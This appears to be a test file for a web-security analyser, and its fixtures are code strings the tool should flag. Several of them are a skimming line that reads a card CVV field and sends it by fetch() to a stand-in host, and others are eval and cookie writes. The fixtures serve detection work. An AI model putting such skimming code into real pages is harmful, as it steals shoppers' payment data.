import { raises } from '../features-of.ts';

describe('flows', () => {
  raises('flows', [
    ['from-field', 'fetch("https://a.example/?" + document.querySelector("#cvv").value)'],
    ['code-eval', 'eval(a)'],
    ['keeps-in-cookie', 'document.cookie = a'],
    ['about-payment', 'fetch("https://a.example/?" + document.querySelector("#cvv").value)'],
    ['to-fetch', 'fetch("https://a.example/?" + document.querySelector("#cvv").value)'],
  ]);
});
